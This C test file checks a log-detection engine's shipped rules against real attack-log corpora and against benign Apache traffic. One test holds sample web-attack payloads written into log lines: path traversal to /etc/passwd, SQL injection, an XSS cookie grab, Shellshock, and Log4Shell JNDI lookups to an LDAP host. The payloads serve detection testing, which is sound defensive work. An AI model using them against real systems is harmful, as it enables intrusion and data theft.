/* The shipped rule pack (configs/rules) on real attack logs, through the
 * whole engine: syslog_parse -> event_fields_from_syslog -> the shipped parser
 * packs (configs/parsers) -> detect_eval.
 *
 * Sources: fail2ban's labelled sshd logs (failJSON), the elastic auth.log,
 * psad's iptables captures of real nmap scans, Wazuh's rule-test lines for
 * Cisco ASA, FortiGate, iptables and su, Wazuh's SQL injection samples, and
 * 10 000 real Apache access lines (false positives).  Lines written by a
 * program rather than by syslog (no header) are sent as
 * "<13>Jan  1 00:00:00 vigil-test PROGRAM: LINE", as that program would send
 * them. */
#define _GNU_SOURCE
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "engine/detect.h"
#include "engine/parser.h"
#include "engine/syslog.h"
#include "test_support.h"

static struct field_registry *reg;
static struct logsource_table *lt;
static struct hsdb_cache *cache;
static struct parser_set *ps;
static struct rule_set *rs;
static struct detect_state *st;
static hs_scratch_t *scratch;
static struct event_fields ef;
static struct diag pd, d;

static const struct field_value *parser_constants(const void *src, unsigned i, unsigned *n)
{
    return parser_set_constants(src, i, n);
}

static void setup(void)
{
    reg = field_registry_new();
    lt = logsource_table_new();
    cache = hsdb_cache_new();
    diag_init(&pd);
    diag_init(&d);
    const char *packs[] = {source_path("configs/parsers")};
    struct parser_limits pl = {0, 0};
    cr_assert_eq(parser_set_load(packs, 1, reg, lt, &pl, cache, &ps, &pd), 0);
    cr_assert_gt(parser_set_count(ps), 0);
    const char *rules[] = {source_path("configs/rules")};
    cr_assert_eq(detect_load(rules, 1, source_path("configs/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
    if (d.errors)
        diag_print(&d, stderr);
    cr_assert_eq(d.errors, 0);
    cr_assert_eq(parser_set_alloc_scratch(ps, &scratch), 0);
    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
    cr_assert_eq(detect_set_constants(rs, ps, parser_set_count(ps), parser_constants), 0);   /* as ruleset_load */
    cr_assert_not_null(st = detect_state_new(rs));
    cr_assert_eq(event_fields_init(&ef, 64, 4096), 0);
}

static void teardown(void)
{
    event_fields_free(&ef);
    detect_state_free(st);
    hs_free_scratch(scratch);
    detect_free(rs);
    parser_set_free(ps);
    diag_free(&pd);
    diag_free(&d);
    hsdb_cache_free(cache);
    logsource_table_free(lt);
    field_registry_free(reg);
}

TestSuite(detect_corpus, .init = setup, .fini = teardown, .timeout = 120);

static int rule_by_title(const char *title)
{
    for (unsigned i = 0; i < detect_rule_count(rs); i++)
        if (!strcmp(detect_rule(rs, i)->title, title))
            return (int)i;
    cr_assert_fail("no rule '%s' in configs/rules", title);
    return -1;
}

/* Did the parser packs refuse a pack?  (Tests that need it then skip.) */
static bool pack_failed(const char *file)
{
    for (unsigned i = 0; i < pd.n; i++)
        if (pd.entries[i].severity == DIAG_ERROR && strstr(pd.entries[i].file, file))
            return true;
    return false;
}

/* Result of one line. */
struct hit {
    uint32_t rules[16];
    int n;
    uint16_t logsource;
};

static bool has(const struct hit *h, int rule)
{
    for (int i = 0; i < h->n && i < 16; i++)
        if ((int)h->rules[i] == rule)
            return true;
    return false;
}

static struct hit run_line_ex(const char *line, size_t len, const char *program, bool force)
{
    static const struct syslog_ctx ctx = {1774000000LL * 1000000000LL, NULL};
    static char buf[65536];
    struct vigil_event ev;
    struct hit h = {.n = 0};
    if (syslog_parse(line, len, &ctx, &ev) != SYSLOG_OK)
        return h;
    if ((ev.format == VIGIL_FMT_NONE || force) && program) {
        int n = snprintf(buf, sizeof buf, "<13>Jan  1 00:00:00 vigil-test %s: ", program);
        if (len > sizeof buf - (size_t)n)
            len = sizeof buf - (size_t)n;
        memcpy(buf + n, line, len);
        if (syslog_parse(buf, (size_t)n + len, &ctx, &ev) != SYSLOG_OK)
            return h;
    }
    event_fields_from_syslog(&ef, &ev);
    parser_set_parse(ps, scratch, &ev, &ef);
    h.logsource = ef.logsource;
    h.n = detect_eval(rs, scratch, st, &ef, h.rules, 16);
    cr_assert_geq(h.n, 0);
    return h;
}

static struct hit run_line(const char *line, size_t len, const char *program)
{
    return run_line_ex(line, len, program, false);
}

/* Iterates the lines of a corpus file.  For fail2ban files, *label is 1 or 0
 * when the previous comment said "match": true / false, -1 otherwise; for
 * Wazuh .ini files only "log N pass|fail = ..." lines are given (label 1 for
 * pass, 0 for fail) with *section the current [section]. */
enum fmt { PLAIN, FAIL2BAN, WAZUH };

struct line_iter {
    char *buf, *p, *end;
    enum fmt fmt;
    int pending;
    char section[256];
};

static void iter_open(struct line_iter *it, const char *rel, enum fmt fmt)
{
    memset(it, 0, sizeof *it);
    size_t len;
    it->buf = read_whole_file(corpus_path(rel), &len);
    cr_assert_not_null(it->buf, "cannot read %s", rel);
    it->p = it->buf;
    it->end = it->buf + len;
    it->fmt = fmt;
    it->pending = -1;
}

static bool iter_next(struct line_iter *it, const char **line, size_t *len, int *label)
{
    while (it->p < it->end) {
        char *nl = memchr(it->p, '\n', (size_t)(it->end - it->p));
        char *ls = it->p, *le = nl ? nl : it->end;
        it->p = nl ? nl + 1 : it->end;
        if (le > ls && le[-1] == '\r')
            le--;
        if (le == ls)
            continue;
        if (it->fmt == FAIL2BAN) {
            if (ls[0] == '#') {
                if (strstr(ls, "failJSON") && le - ls < 4000) {
                    char tmp[4096];
                    memcpy(tmp, ls, (size_t)(le - ls));
                    tmp[le - ls] = '\0';
                    it->pending = strstr(tmp, "\"match\": true") || strstr(tmp, "\"match\":true") ? 1
                                  : strstr(tmp, "\"match\": false") || strstr(tmp, "\"match\":false") ? 0
                                                                                                      : -1;
                }
                continue;
            }
            *label = it->pending;
            it->pending = -1;
        } else if (it->fmt == WAZUH) {
            if (ls[0] == '[') {
                size_t n = (size_t)(le - ls) < sizeof it->section - 1 ? (size_t)(le - ls) : sizeof it->section - 1;
                memcpy(it->section, ls, n);
                it->section[n] = '\0';
                continue;
            }
            if (strncmp(ls, "log ", 4) != 0)
                continue;
            char *eq = memchr(ls, '=', (size_t)(le - ls));
            if (!eq)
                continue;
            *label = memmem(ls, (size_t)(eq - ls), "pass", 4) != NULL;
            for (ls = eq + 1; ls < le && *ls == ' '; ls++)
                ;
        } else {
            *label = -1;
        }
        *line = ls;
        *len = (size_t)(le - ls);
        return true;
    }
    return false;
}

static void iter_close(struct line_iter *it) { free(it->buf); }

static bool contains(const char *line, size_t len, const char *needle)
{
    return memmem(line, len, needle, strlen(needle)) != NULL;
}

/* ---- sshd ---- */

Test(detect_corpus, fail2ban_sshd_labelled)
{
    int failed = rule_by_title("SSH Failed Password"), invalid = rule_by_title("SSH Login Attempt With Unknown User"),
        root = rule_by_title("SSH Login Attempt As Root"), probe = rule_by_title("SSH Protocol Probe Or Scanner");
    const char *files[] = {"syslog/fail2ban/logs/sshd", "syslog/fail2ban/logs/sshd-journal"};
    struct logsource l = {.product = "linux", .service = "sshd"};
    uint16_t sshd_ls;
    cr_assert_eq(logsource_intern(lt, &l, &sshd_ls), 0);
    unsigned pos = 0, pos_hit = 0, neg = 0, neg_hit = 0, unmapped = 0;
    for (unsigned f = 0; f < 2; f++) {
        struct line_iter it;
        iter_open(&it, files[f], FAIL2BAN);
        const char *line;
        size_t len;
        int label;
        while (iter_next(&it, &line, &len, &label)) {
            struct hit h = run_line(line, len, "sshd");
            bool any = has(&h, failed) || has(&h, invalid) || has(&h, root) || has(&h, probe);
            if (h.logsource != sshd_ls) {
                /* a program no parser pack maps to sshd (OpenSSH 9.8 sshd-session, journal lines) */
                unmapped++;
                if (getenv("VIGIL_TEST_VERBOSE"))
                    printf("  not an sshd log source: %.*s\n", (int)len, line);
                continue;
            }
            /* what the rules promise, line by line */
            if (contains(line, len, "Failed password for "))
                cr_expect(has(&h, failed), "%.*s", (int)len, line);
            if (contains(line, len, "Invalid user ") || contains(line, len, "invalid user "))
                cr_expect(has(&h, invalid), "%.*s", (int)len, line);
            if (contains(line, len, "Accepted publickey for root from") ||
                contains(line, len, "Failed password for root from"))
                cr_expect(has(&h, root), "%.*s", (int)len, line);
            if (label == 1) {
                pos++;
                pos_hit += any;
                if (!any && getenv("VIGIL_TEST_VERBOSE"))
                    printf("  missed (log source %u): %.*s\n", h.logsource, (int)len, line);
            } else if (label == 0) {
                neg++;
                neg_hit += any;
            }
        }
        iter_close(&it);
    }
    printf("fail2ban sshd: %u/%u lines labelled as attacks fire an SSH rule; %u/%u labelled benign do; "
           "%u lines skipped: their program has no sshd log source\n",
           pos_hit, pos, neg_hit, neg, unmapped);
    /* fail2ban's sshd filter also bans on preauth disconnects, bad protocol
     * banners and the like, which are not authentication failures */
    cr_expect_geq(pos_hit * 100, pos * 75, "%u of %u", pos_hit, pos);
}

Test(detect_corpus, elastic_auth_log)
{
    int failed = rule_by_title("SSH Failed Password"), invalid = rule_by_title("SSH Login Attempt With Unknown User"),
        root = rule_by_title("SSH Login Attempt As Root"), sudo1 = rule_by_title("Sudo Incorrect Password"),
        sudo2 = rule_by_title("Sudo By User Not In Sudoers");
    struct line_iter it;
    iter_open(&it, "syslog/elastic_auth.log", PLAIN);
    const char *line;
    size_t len;
    int label;
    unsigned n_failed = 0, n_invalid = 0, n_root = 0, lines = 0, fp = 0;
    while (iter_next(&it, &line, &len, &label)) {
        struct hit h = run_line(line, len, NULL);
        lines++;
        bool want_failed = contains(line, len, "sshd[") && contains(line, len, "Failed password for ");
        bool want_invalid = contains(line, len, "sshd[") && contains(line, len, "nvalid user ");
        if (want_failed)
            cr_expect(has(&h, failed), "%.*s", (int)len, line);
        if (has(&h, failed))
            cr_expect(contains(line, len, "Failed password") || contains(line, len, "authentication failure") ||
                          contains(line, len, "maximum authentication attempts exceeded") ||
                          contains(line, len, "Failed keyboard-interactive") || contains(line, len, ": Auth fail"),
                      "not a password failure: %.*s", (int)len, line);
        cr_expect_eq(has(&h, invalid), want_invalid, "%.*s", (int)len, line);
        n_failed += has(&h, failed);
        n_invalid += has(&h, invalid);
        n_root += has(&h, root);
        if (!contains(line, len, "sshd[") && (has(&h, failed) || has(&h, invalid) || has(&h, root)))
            fp++;
        cr_expect_not(has(&h, sudo1) || has(&h, sudo2), "no sudo failure in this log: %.*s", (int)len, line);
    }
    iter_close(&it);
    printf("elastic auth.log: %u lines; SSH failed password %u, unknown user %u, root %u\n", lines, n_failed,
           n_invalid, n_root);
    cr_expect_eq(fp, 0, "sshd rules fired on non-sshd lines");
    cr_expect_gt(n_failed, 800);
    cr_expect_gt(n_root, 100);
}

/* ---- firewalls ---- */

Test(detect_corpus, psad_iptables_scans)
{
    int deny = rule_by_title("Firewall Denied Packet (iptables/netfilter)"),
        syn = rule_by_title("TCP SYN Probe Logged By Firewall");
    static const struct {
        const char *file;
        bool syn;
    } files[] = {
        {"syslog/iptables-psad/syn_scan_1000_1500.log", true},
        {"syslog/iptables-psad/fin_scan_1000_1150.log", false},
        {"syslog/iptables-psad/udp_scan_1000_1150.log", false},
        {"syslog/iptables-psad/ipv6_tcp_connect_nmap_default_scan.log", true},
    };
    for (unsigned f = 0; f < sizeof files / sizeof files[0]; f++) {
        struct line_iter it;
        iter_open(&it, files[f].file, PLAIN);
        const char *line;
        size_t len;
        int label;
        unsigned lines = 0, n_deny = 0, n_syn = 0;
        while (iter_next(&it, &line, &len, &label)) {
            if (!contains(line, len, " SRC="))
                continue;
            struct hit h = run_line(line, len, NULL);
            lines++;
            n_deny += has(&h, deny);
            n_syn += has(&h, syn);
            bool syn_only = contains(line, len, " SYN ") && !contains(line, len, " ACK ");
            cr_expect_eq(has(&h, syn), syn_only, "%.*s", (int)len, line);
        }
        iter_close(&it);
        printf("%s: %u netfilter lines, %u denied, %u SYN probes\n", files[f].file, lines, n_deny, n_syn);
        cr_expect_eq(n_deny, lines, "every psad line is a DROP");
        if (files[f].syn)
            cr_expect_gt(n_syn, lines / 2);
        else
            cr_expect_eq(n_syn, 0);
    }
}

static void wazuh_file(const char *rel, const char *program, int rule, bool (*want)(const char *, size_t, const char *),
                       unsigned *hits, unsigned *lines)
{
    struct line_iter it;
    iter_open(&it, rel, WAZUH);
    const char *line;
    size_t len;
    int label;
    *hits = *lines = 0;
    while (iter_next(&it, &line, &len, &label)) {
        struct hit h = run_line(line, len, program);
        bool w = want(line, len, it.section);
        cr_expect_eq(has(&h, rule), w, "[%s] %.*s", it.section, (int)len, line);
        (*lines)++;
        *hits += has(&h, rule);
    }
    iter_close(&it);
}

static bool asa_deny(const char *l, size_t n, const char *sec)
{
    (void)sec;
    static const char *const ids[] = {"-106001:", "-106006:", "-106007:", "-106014:", "-106015:", "-106023:"};
    for (unsigned i = 0; i < sizeof ids / sizeof ids[0]; i++)
        if (contains(l, n, ids[i]))
            return true;
    return contains(l, n, "-106100:") && contains(l, n, " denied ");
}

static bool asa_threat(const char *l, size_t n, const char *sec)
{
    (void)sec;
    return contains(l, n, "-733100:") || contains(l, n, "-733101:") || contains(l, n, "-733102:") ||
           contains(l, n, "-733104:") || contains(l, n, "-733105:");
}

Test(detect_corpus, wazuh_cisco_asa)
{
    if (pack_failed("cisco-asa.yaml"))
        cr_skip_test("the cisco-asa parser pack did not load (see the parser tests): ASA events get no log source");
    unsigned hits, lines;
    wazuh_file("syslog/wazuh-ruletests/cisco_asa.ini", NULL, rule_by_title("Cisco ASA Denied Connection"), asa_deny,
               &hits, &lines);
    printf("wazuh cisco_asa.ini: %u lines, %u ASA denies\n", lines, hits);
    cr_expect_gt(hits, 5);
    wazuh_file("syslog/wazuh-ruletests/cisco_asa.ini", NULL, rule_by_title("Cisco ASA Threat Detection Alarm"),
               asa_threat, &hits, &lines);
    printf("wazuh cisco_asa.ini: %u threat-detection alarms\n", hits);
    cr_expect_geq(hits, 1);
}

static bool fgt_deny(const char *l, size_t n, const char *sec)
{
    (void)sec;
    return contains(l, n, "logid=") &&
           (contains(l, n, " action=deny") || contains(l, n, " action=\"deny\"") || contains(l, n, " action=blocked") ||
            contains(l, n, " action=\"blocked\"") || contains(l, n, " action=dropped") ||
            contains(l, n, " action=\"dropped\""));
}

Test(detect_corpus, wazuh_fortigate)
{
    unsigned hits, lines;
    wazuh_file("syslog/wazuh-ruletests/fortigate.ini", NULL, rule_by_title("Firewall Denied Connection (FortiGate)"),
               fgt_deny, &hits, &lines);
    printf("wazuh fortigate.ini: %u lines, %u denies\n", lines, hits);
    cr_expect_gt(hits, 2);
}

static bool ipt_deny(const char *l, size_t n, const char *sec)
{
    (void)sec;
    if (!contains(l, n, " SRC=") || !contains(l, n, " DST=") || !contains(l, n, " PROTO="))
        return false;
    const char *words[] = {"DROP", "REJECT", "DENY", "BLOCK", "drop", "reject", "deny", "block", "Drop", "Deny"};
    for (unsigned i = 0; i < sizeof words / sizeof words[0]; i++)
        if (contains(l, n, words[i]))
            return true;
    return false;
}

Test(detect_corpus, wazuh_iptables)
{
    unsigned hits, lines;
    wazuh_file("syslog/wazuh-ruletests/iptables.ini", NULL,
               rule_by_title("Firewall Denied Packet (iptables/netfilter)"), ipt_deny, &hits, &lines);
    printf("wazuh iptables.ini: %u lines, %u denies\n", lines, hits);
    cr_expect_gt(hits, 2);
}

/* ---- su ---- */

static bool su_fail(const char *l, size_t n, const char *sec)
{
    (void)l, (void)n;
    return strstr(sec, "failed") || strstr(sec, "bad pass") || strstr(sec, "pam - auth fail");
}

Test(detect_corpus, wazuh_su)
{
    unsigned hits, lines;
    wazuh_file("syslog/wazuh-ruletests/su.ini", NULL, rule_by_title("Su Authentication Failure"), su_fail, &hits,
               &lines);
    printf("wazuh su.ini: %u lines, %u su failures\n", lines, hits);
    cr_expect_geq(hits, 3);
}

/* ---- web ---- */

Test(detect_corpus, wazuh_sql_injection)
{
    int sqli = rule_by_title("Web SQL Injection Attempt");
    struct line_iter it;
    iter_open(&it, "syslog/wazuh-ruletests/web_rules.ini", WAZUH);
    const char *line;
    size_t len;
    int label;
    unsigned n = 0, hits = 0;
    while (iter_next(&it, &line, &len, &label)) {
        /* IIS W3C lines ("2014-12-20 21:34:37 W3SVC58 ...") look like a syslog
         * header to the decoder; an IIS forwarder would send them with a tag */
        struct hit h = run_line_ex(line, len, "httpd", len > 2 && !memcmp(line, "20", 2));
        if (strcasestr(it.section, "sql injection") || strstr(it.section, "web attack returned code 200 (success).]")) {
            if (strncmp(it.section, "[NOT", 4) != 0) {
                n++;
                hits += has(&h, sqli);
                cr_expect(has(&h, sqli), "[%s] %.*s", it.section, (int)len, line);
            }
        } else {
            cr_expect_not(has(&h, sqli), "[%s] %.*s", it.section, (int)len, line);
        }
    }
    iter_close(&it);
    printf("wazuh web_rules.ini: %u/%u SQL injection samples fire\n", hits, n);
    cr_expect_geq(n, 3);
}

Test(detect_corpus, apache_access_false_positives)
{
    static const char *const web[] = {"Web Directory Traversal Attempt", "Web SQL Injection Attempt",
                                      "Web Cross-Site Scripting Attempt", "Web Vulnerability Scanner User Agent",
                                      "Web Shellshock Attempt", "Web Log4Shell JNDI Lookup Attempt"};
    int ids[6];
    unsigned fired[6] = {0}, lines = 0, parsed = 0;
    for (unsigned i = 0; i < 6; i++)
        ids[i] = rule_by_title(web[i]);
    struct line_iter it;
    iter_open(&it, "web/elastic_apache_logs.log", PLAIN);
    const char *line;
    size_t len;
    int label;
    while (iter_next(&it, &line, &len, &label)) {
        struct hit h = run_line(line, len, "httpd");
        lines++;
        parsed += ef.parser >= 0;
        for (unsigned i = 0; i < 6; i++)
            if (has(&h, ids[i])) {
                fired[i]++;
                if (fired[i] <= 3)
                    printf("  %s: %.*s\n", web[i], (int)(len < 200 ? len : 200), line);
            }
    }
    iter_close(&it);
    printf("elastic apache access log: %u lines (%u parsed)", lines, parsed);
    for (unsigned i = 0; i < 6; i++)
        printf("; %s %u", web[i], fired[i]);
    printf("\n");
    cr_expect_gt(parsed, lines * 9 / 10);
    /* The bar: benign requests fire no web-attack rule of level medium or above. */
    for (unsigned i = 0; i < 6; i++)
        if (detect_rule(rs, (unsigned)ids[i])->level >= RULE_LEVEL_MEDIUM)
            cr_expect_eq(fired[i], 0, "%s fired on %u of %u ordinary requests", web[i], fired[i], lines);
        else
            cr_expect_leq(fired[i] * 1000, lines, "%s fired on %u of %u ordinary requests", web[i], fired[i], lines);
}

Test(detect_corpus, web_attacks_through_the_parser)
{
    /* real-shaped combined log lines carrying the attacks the rules cover */
    static const struct {
        const char *title, *line;
    } cases[] = {
        {"Web Directory Traversal Attempt",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\" 400 "
         "226 \"-\" \"curl/7.68.0\""},
        {"Web Directory Traversal Attempt",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /download.php?f=..%2f..%2f..%2fwindows%2fwin.ini HTTP/1.1\" "
         "404 226 \"-\" \"Mozilla/5.0\""},
        {"Web SQL Injection Attempt",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL-- "
         "HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\""},
        {"Web Vulnerability Scanner User Agent",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /item.php?id=1 HTTP/1.1\" 200 512 \"-\" "
         "\"sqlmap/1.7.2#stable (https://sqlmap.org)\""},
        {"Web Cross-Site Scripting Attempt",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E "
         "HTTP/1.1\" 200 99 \"-\" \"Mozilla/5.0\""},
        {"Web Shellshock Attempt",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 99 \"-\" \"() { :; }; "
         "/bin/bash -c 'cat /etc/passwd'\""},
        {"Web Log4Shell JNDI Lookup Attempt",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET /?x=${jndi:ldap://198.51.100.1:1389/a} HTTP/1.1\" 200 99 "
         "\"-\" \"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}\""},
        {"Web Vulnerability Scanner User Agent",
         "192.0.2.9 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 99 \"-\" \"Mozilla/5.0 zgrab/0.x\""},
    };
    for (unsigned i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct hit h = run_line(cases[i].line, strlen(cases[i].line), "nginx");
        cr_expect(ef.parser >= 0, "the web-access pack parses: %s", cases[i].line);
        cr_expect(has(&h, rule_by_title(cases[i].title)), "%s: %s", cases[i].title, cases[i].line);
    }
}

/* ---- anchors (detect.c, lit_anchor.h) change no answer ---- */

/* Every corpus line through the parsers, then through two rule sets loaded
 * from the same files.  CMP_ANCHORS: as shipped (keyword lists found through
 * shared anchors) against no_anchors (every literal its own pattern).
 * CMP_CONSTANTS: told the parsers' constants (detect_set_constants, as
 * ruleset_load does) against checking them on every event.  The rules that
 * match must be the same on every line. */
enum cmp { CMP_ANCHORS, CMP_CONSTANTS };

static void compare_sets(const char *const *rule_paths, unsigned n_paths, enum cmp what)
{
    struct diag d2, d3;
    diag_init(&d2);
    diag_init(&d3);
    struct rule_set *a, *plain;
    struct detect_limits on = {0, 0, false}, off = {0, 0, true};
    cr_assert_eq(detect_load(rule_paths, n_paths, source_path("configs/fieldmap.yaml"), reg, lt, &on, cache, &a, &d2),
                 0);
    cr_assert_eq(detect_load(rule_paths, n_paths, source_path("configs/fieldmap.yaml"), reg, lt,
                             what == CMP_ANCHORS ? &off : &on, cache, &plain, &d3),
                 0);
    cr_assert_eq(detect_rule_count(a), detect_rule_count(plain));
    if (what == CMP_ANCHORS) {
        cr_assert_eq(detect_anchored_literals(plain), 0);
        cr_assert_gt(detect_anchored_literals(a), 0, "the set exercises anchors");
    } else {
        cr_assert_eq(detect_set_constants(a, ps, parser_set_count(ps), parser_constants), 0);
    }
    cr_assert_eq(detect_alloc_scratch(a, &scratch), 0);
    cr_assert_eq(detect_alloc_scratch(plain, &scratch), 0);
    struct detect_state *sa = detect_state_new(a), *sp = detect_state_new(plain);
    cr_assert(sa && sp);
    static const char *const files[] = {"syslog/elastic_auth.log", "syslog/loghub/Linux_2k.log",
                                        "syslog/loghub/Apache_2k.log", "syslog/iptables-psad/syn_scan_1000_1500.log",
                                        "web/elastic_apache_logs.log"};
    static const struct syslog_ctx ctx = {1774000000LL * 1000000000LL, NULL};
    unsigned lines = 0, matched = 0, fewer_lookups = 0;
    for (unsigned f = 0; f < sizeof files / sizeof files[0]; f++) {
        struct line_iter it;
        iter_open(&it, files[f], PLAIN);
        const char *line;
        size_t len;
        int label;
        static char buf[65536];
        while (iter_next(&it, &line, &len, &label)) {
            struct vigil_event ev;
            if (syslog_parse(line, len, &ctx, &ev) != SYSLOG_OK)
                continue;
            if (ev.format == VIGIL_FMT_NONE) {   /* an access log line: as httpd would send it */
                int n = snprintf(buf, sizeof buf, "<13>Jan  1 00:00:00 web httpd: %.*s", (int)len, line);
                if (syslog_parse(buf, (size_t)n, &ctx, &ev) != SYSLOG_OK)
                    continue;
            }
            event_fields_from_syslog(&ef, &ev);
            parser_set_parse(ps, scratch, &ev, &ef);
            uint32_t ra[32], rp[32];
            int na = detect_eval(a, scratch, sa, &ef, ra, 32), np = detect_eval(plain, scratch, sp, &ef, rp, 32);
            cr_assert_eq(na, np, "%s: %.*s", files[f], (int)len, line);
            for (int k = 0; k < na && k < 32; k++)
                cr_assert_eq(ra[k], rp[k], "%s: %.*s", files[f], (int)len, line);
            struct detect_eval_stats ea, ep;
            detect_last_stats(sa, &ea);
            detect_last_stats(sp, &ep);
            fewer_lookups += ea.lookups < ep.lookups;
            lines++;
            matched += na > 0;
        }
        iter_close(&it);
    }
    if (what == CMP_ANCHORS)
        printf("anchors: %u literals anchored; %u lines, %u with matches, the same with and without\n",
               detect_anchored_literals(a), lines, matched);
    else
        printf("parser constants: %u lines, %u with matches, %u with fewer value lookups, the same answers\n", lines,
               matched, fewer_lookups);
    cr_expect_gt(matched, 1000);
    if (what == CMP_CONSTANTS)
        cr_expect_gt(fewer_lookups, 3000, "constants of the sshd, pam and web parsers are not looked up per event");
    detect_state_free(sa);
    detect_state_free(sp);
    detect_free(a);
    detect_free(plain);
    diag_free(&d2);
    diag_free(&d3);
}

Test(detect_corpus, anchors_change_no_answer_shipped)
{
    const char *rules[] = {source_path("configs/rules")};
    compare_sets(rules, 1, CMP_ANCHORS);
}

Test(detect_corpus, anchors_change_no_answer_with_sigma)
{
    const char *rules[] = {source_path("configs/rules"), corpus_path("rules/sigma/rules")};
    compare_sets(rules, 2, CMP_ANCHORS);
}

Test(detect_corpus, parser_constants_change_no_answer_shipped)
{
    const char *rules[] = {source_path("configs/rules")};
    compare_sets(rules, 1, CMP_CONSTANTS);
}

Test(detect_corpus, parser_constants_change_no_answer_with_sigma)
{
    const char *rules[] = {source_path("configs/rules"), corpus_path("rules/sigma/rules")};
    compare_sets(rules, 2, CMP_CONSTANTS);
}
